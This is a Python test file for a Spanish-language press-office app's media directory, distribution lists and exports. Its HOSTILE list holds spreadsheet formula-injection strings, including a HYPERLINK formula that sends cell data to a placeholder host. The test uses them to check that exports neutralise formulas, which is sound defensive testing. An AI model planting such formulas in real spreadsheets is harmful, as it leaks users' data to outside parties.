"""Media directory, distribution lists and their exports, on both backends."""

from __future__ import annotations

import subprocess
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import vobject
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cortazar_desk.domain.media import ListCriteria
from cortazar_desk.services import media_directory as md
from cortazar_desk.services import media_lists as ml
from cortazar_desk.services.database import Database
from cortazar_desk.services.errors import ConflictError, UserError, ValidationError

from ..conftest import second_session


def outlet(db: Database, name: str = "El Sol del Bajío", medium: str = "impreso", coverage: str = "regional") -> int:
    return md.create_outlet(db, md.OutletData(name, medium, coverage))


def person(db: Database, name: str, outlet_id: int | None, **extra: object) -> int:
    return md.create_contact(db, md.ContactData(name=name, outlet_id=outlet_id, **extra))  # type: ignore[arg-type]


def test_outlets_and_contacts_are_validated_in_spanish(db: Database) -> None:
    sol = outlet(db)
    with pytest.raises(ValidationError, match="Ya existe el medio"):
        outlet(db, "el sol del bajio")
    with pytest.raises(ValidationError, match="tipo de medio"):
        md.create_outlet(db, md.OutletData("Otro", "periodico", "local"))
    with pytest.raises(ValidationError, match="10 dígitos"):
        person(db, "Ana Ruiz", sol, phone="155 00")
    with pytest.raises(ValidationError, match="no es un correo"):
        person(db, "Ana Ruiz", sol, email="ana@@sol")
    with pytest.raises(ValidationError, match="admite hasta 200 caracteres"):
        person(db, "A" * 5000, sol)
    with pytest.raises(ValidationError, match="motivo"):
        person(db, "Ana Ruiz", sol, do_not_contact=True, dnc_since=date(2026, 1, 1))
    contact = person(db, "  Ana\x00 Ruiz ", sol, phone="(461) 123-4567", email=" Ana@Sol.MX",
                     beats="Seguridad, Política")
    data, version = md.load_contact(db, contact)
    assert (data.name, data.phone, data.email, data.beats, version) == (
        "Ana Ruiz", "461 123 4567", "ana@sol.mx", "seguridad, política", 1)


def test_moving_to_another_outlet_keeps_the_history(db: Database) -> None:
    sol, am = outlet(db), outlet(db, "Periódico AM", "impreso", "regional")
    contact = md.create_contact(db, md.ContactData("Ana Ruiz", sol, role="Reportera"), started_on=date(2024, 1, 8))
    data, version = md.load_contact(db, contact)
    md.update_contact(db, contact, version, md.ContactData("Ana Ruiz", am, role="Jefa de información"),
                      moved_on=date(2026, 3, 1))
    history = md.contact_history(db, contact)
    assert [(h.outlet, h.role, h.started_on, h.ended_on) for h in history] == [
        ("Periódico AM", "Jefa de información", date(2026, 3, 1), None),
        ("El Sol del Bajío", "Reportera", date(2024, 1, 8), date(2026, 3, 1))]
    assert [r.outlet for r in md.list_contacts(db)] == ["Periódico AM"]


def test_a_stale_edit_is_refused(db: Database) -> None:
    sol = outlet(db)
    contact = person(db, "Ana Ruiz", sol)
    _data, version = md.load_contact(db, contact)
    other = second_session(db)
    try:
        md.update_contact(other, contact, version, md.ContactData("Ana Ruiz Vega", sol))
    finally:
        other.dispose()
    with pytest.raises(ConflictError, match="maria"):
        md.update_contact(db, contact, version, md.ContactData("Ana R.", sol))


def test_duplicates_are_found_by_phone_email_and_similar_name(db: Database) -> None:
    sol = outlet(db)
    ana = person(db, "Ana María Ruiz Vega", sol, phone="461 123 4567", email="ana@sol.mx")
    person(db, "Juan Ortega", sol)
    found = md.find_duplicates(db, md.ContactData("Otra Persona", phone="+52 461 123 4567"))
    assert [(d.id, d.reasons) for d in found] == [(ana, ("mismo teléfono (461 123 4567)",))]
    by_mail = md.find_duplicates(db, md.ContactData("X Y", email="ANA@sol.mx"))
    assert by_mail[0].reasons == ("mismo correo (ana@sol.mx)",)
    assert md.find_duplicates(db, md.ContactData("ana maria ruiz vega"))[0].reasons == ("mismo nombre",)
    assert md.find_duplicates(db, md.ContactData("Ana Maria Ruiz Vegas"))[0].reasons == ("nombre parecido",)
    assert md.find_duplicates(db, md.ContactData("Ana María Ruiz Vega"), exclude_id=ana) == []
    assert md.find_duplicates(db, md.ContactData("Pedro Salas")) == []
    groups = md.duplicate_groups(db)
    assert groups == []
    person(db, "ANA MARIA RUIZ VEGA", None, phone="4611234567")
    groups = md.duplicate_groups(db)
    assert len(groups) == 1 and set(groups[0][0].reasons) == {"mismo nombre", "mismo teléfono"}


def test_merge_keeps_history_lists_and_the_do_not_contact_mark(db: Database) -> None:
    sol, am = outlet(db), outlet(db, "Periódico AM")
    keep = md.create_contact(db, md.ContactData("Ana Ruiz Vega", sol, phone="461 123 4567"),
                             started_on=date(2025, 1, 1))
    drop = md.create_contact(db, md.ContactData("ANA RUIZ VEGA", am, phone="411 155 0000", email="ana@am.mx",
                                                beats="seguridad", notes="Prefiere la mañana",
                                                do_not_contact=True, dnc_since=date(2026, 2, 1),
                                                dnc_reason="Lo pidió por escrito"), started_on=date(2023, 5, 1))
    radio = ml.create_list(db, "Prensa", "fija", contact_ids=[drop])
    _k, keep_version = md.load_contact(db, keep)
    _d, drop_version = md.load_contact(db, drop)
    md.merge_contacts(db, keep, keep_version, drop, drop_version)
    merged, _v = md.load_contact(db, keep)
    assert (merged.phone, merged.phone2, merged.email, merged.beats, merged.do_not_contact, merged.dnc_reason) == (
        "461 123 4567", "411 155 0000", "ana@am.mx", "seguridad", True, "Lo pidió por escrito")
    assert "Prefiere la mañana" in merged.notes
    assert [h.outlet for h in md.contact_history(db, keep)] == ["El Sol del Bajío", "Periódico AM"]
    assert [r.id for r in ml.list_members(db, radio)] == [keep]
    with pytest.raises(UserError, match="quizá se fusionó"):
        md.load_contact(db, drop)
    assert [r.id for r in md.list_contacts(db)] == [keep]
    with pytest.raises(UserError, match="ya no existe o ya se fusionó"):
        md.merge_contacts(db, keep, keep_version + 1, drop, drop_version)


def test_merge_joins_two_open_stretches_at_the_same_outlet(db: Database) -> None:
    sol = outlet(db)
    keep = md.create_contact(db, md.ContactData("Iván Baeza", sol), started_on=date(2026, 11, 1))
    drop = md.create_contact(db, md.ContactData("IVAN BAEZA", sol, role="Reportero"), started_on=date(2025, 2, 17))
    md.merge_contacts(db, keep, md.load_contact(db, keep)[1], drop, md.load_contact(db, drop)[1])
    history = md.contact_history(db, keep)
    assert [(h.outlet, h.started_on, h.ended_on, h.role) for h in history] == [
        ("El Sol del Bajío", date(2025, 2, 17), None, "Reportero")]


def _directory(db: Database) -> dict[str, int]:
    radio = outlet(db, "Radio Bajío Demo", "radio", "regional")
    local_radio = outlet(db, "Radio Local Demo", "radio", "local")
    tv = outlet(db, "Express TV", "tv", "regional")
    return {
        "radio_seg": person(db, "Laura Méndez", radio, beats="seguridad", phone="461 000 0001"),
        "radio_pol": person(db, "Mario Salas", radio, beats="política"),
        "radio_dnc": person(db, "Rosa Vela", radio, beats="seguridad", phone="461 000 0003", do_not_contact=True,
                            dnc_since=date(2026, 1, 5), dnc_reason="Pidió no recibir boletines"),
        "local_seg": person(db, "Iván Cruz", local_radio, beats="seguridad"),
        "tv_seg": person(db, "Paola Núñez", tv, beats="seguridad"),
    }


def test_saved_search_lists_update_themselves_and_never_export_do_not_contact(db: Database, tmp_path: Path) -> None:
    people = _directory(db)
    criteria = ListCriteria(media=("radio",), coverage=("regional",), beats=("seguridad",))
    saved = ml.create_list(db, "Radio regional seguridad", "busqueda", criteria)
    assert {r.id for r in ml.list_members(db, saved)} == {people["radio_seg"], people["radio_dnc"]}
    assert [r.id for r in ml.list_members(db, saved, for_export=True)] == [people["radio_seg"]]
    regional_radio = next(o.id for o in md.list_outlets(db) if o.name == "Radio Bajío Demo")
    newcomer = person(db, "Nuevo Reportero", regional_radio, beats="Seguridad")  # the list grows by itself
    assert {r.id for r in ml.list_members(db, saved)} == {people["radio_seg"], people["radio_dnc"], newcomer}
    rows = {r.name: r for r in ml.list_lists(db)}
    assert rows["Radio regional seguridad"].description == "Radio + cobertura regional + fuente: seguridad"
    with pytest.raises(ValidationError, match="al menos un criterio"):
        ml.create_list(db, "Vacía", "busqueda", ListCriteria())
    with pytest.raises(UserError, match="se actualiza sola"):
        ml.add_members(db, saved, [people["tv_seg"]])
    fixed = ml.create_list(db, "Conferencia", "fija", contact_ids=[people["tv_seg"], people["radio_dnc"]])
    assert ml.add_members(db, fixed, [people["tv_seg"], people["local_seg"]]) == 1
    assert len(ml.list_members(db, fixed)) == 3
    assert [r.id for r in ml.list_members(db, fixed, for_export=True)] == [people["local_seg"], people["tv_seg"]]
    ml.remove_members(db, fixed, [people["local_seg"]])
    vcf = tmp_path / "lista.vcf"
    assert ml.export_vcf(db, fixed, vcf) == 1
    cards = list(vobject.readComponents(vcf.read_text("utf-8")))
    assert [c.fn.value for c in cards] == ["Paola Núñez"]
    assert "Rosa Vela" not in vcf.read_text("utf-8")


HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+52 cmd", "-1+1", "@SUM(A1)", "\tTab"]


def test_exports_neutralise_formulas_and_keep_odd_text(db: Database, tmp_path: Path) -> None:
    sol = outlet(db)
    names = []
    for n, text in enumerate(HOSTILE):
        names.append(f"{text} {n}")
        person(db, names[-1], sol, role=text, notes=text, beats="a, b")
    person(db, "Persona Ñandú; \"comillas\", coma", sol, role="x" * 120, notes="línea 1\nlínea 2 " + "ü" * 3000)
    every = ml.create_list(db, "Todos", "busqueda", ListCriteria(media=("impreso",)))
    path = tmp_path / "lista.xlsx"
    assert ml.export_xlsx(db, every, path) == 6
    sheet = openpyxl.load_workbook(path).active
    values = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name in names:
        cell = values[name.strip()][0]
        assert cell.data_type == "s" and cell.value == name.strip()
    roles = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in roles)
    assert any(c.value == HOSTILE[0] and c.quotePrefix for c in roles)
    vcf = tmp_path / "lista.vcf"
    ml.export_vcf(db, every, vcf)
    cards = list(vobject.readComponents(vcf.read_text("utf-8")))
    assert {c.fn.value for c in cards} == {n.strip() for n in names} | {"Persona Ñandú; \"comillas\", coma"}


def test_attendance_sheet_lists_the_invited_and_a_signature_column(db: Database, tmp_path: Path) -> None:
    people = _directory(db)
    fixed = ml.create_list(db, "Rueda de prensa", "fija", contact_ids=list(people.values()))
    pdf = ml.attendance_pdf(db, fixed, "Rueda de prensa: Fiestas Patrias <b>2026</b>", date(2026, 9, 10),
                            "Presidencia Municipal")
    path = tmp_path / "asistencia.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "Firma" in text and "Laura Méndez" in text and "Paola Núñez" in text
    assert "Rosa Vela" not in text  # do-not-contact
    assert "<b>2026</b>" in text  # user text is shown, never interpreted
    assert "jueves 10 de septiembre de 2026" in text.lower()
    with pytest.raises(ValidationError, match="nombre de la rueda de prensa"):
        ml.attendance_pdf(db, fixed, "  ", date(2026, 9, 10))


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=300))
def test_any_pasted_text_is_stored_alike_and_exported(db: Database, tmp_path: Path, text: str) -> None:
    """NUL, control characters, RTL marks, emoji: the same stored text on both backends, and both exports read back."""
    from cortazar_desk.documents.cells import safe_text
    from cortazar_desk.domain.text import clean_text

    contact = person(db, "Ana " + text[:150], None, role=text[:100], notes=text)
    data, _v = md.load_contact(db, contact)
    assert data.name == clean_text("Ana " + text[:150])
    assert data.notes == clean_text(text, multiline=True)
    target = ml.create_list(db, f"Lista {contact}", "fija", contact_ids=[contact])
    xlsx, vcf = tmp_path / f"l{contact}.xlsx", tmp_path / f"l{contact}.vcf"
    assert ml.export_xlsx(db, target, xlsx) == 1
    first = next(openpyxl.load_workbook(xlsx).active.iter_rows(min_row=2))
    assert first[0].value == safe_text(data.name) and (first[4].value or "") == safe_text(data.role)
    ml.export_vcf(db, target, vcf)
    assert vobject.readOne(vcf.read_text("utf-8")).fn.value == data.name


def test_retire_and_restore_contacts_and_outlets(db: Database) -> None:
    from cortazar_desk.services.errors import ValidationError as Refused

    outlet = md.create_outlet(db, md.OutletData("Periódico Cerrado", "impreso", "local"))
    person = md.create_contact(db, md.ContactData("Rosa Ibarra Soto", outlet_id=outlet, email="rosa@ejemplo.mx"))
    listed = ml.create_list(db, "Prensa local", "fija", contact_ids=[person])
    outlet_row = next(o for o in md.list_outlets(db) if o.id == outlet)
    with pytest.raises(Refused, match="1 contacto"):
        md.retire_outlet(db, outlet, outlet_row.version)
    version = md.load_contact(db, person)[1]
    md.retire_contact(db, person, version)
    assert person not in {c.id for c in md.list_contacts(db)}
    assert ml.list_members(db, listed, for_export=True) == []  # out of its lists and exports too
    retired = md.retired_contacts(db)
    assert [(r.id, r.detail) for r in retired] == [(person, "Periódico Cerrado")]
    md.retire_outlet(db, outlet, outlet_row.version)
    assert outlet not in {i for i, _n, _m in md.outlet_choices(db)}
    assert [r.name for r in md.retired_outlets(db)] == ["Periódico Cerrado"]
    md.restore_outlet(db, outlet, md.retired_outlets(db)[0].version)
    md.restore_contact(db, person, md.retired_contacts(db)[0].version)
    assert person in {c.id for c in md.list_contacts(db)}
    assert [m.id for m in ml.list_members(db, listed)] == [person]
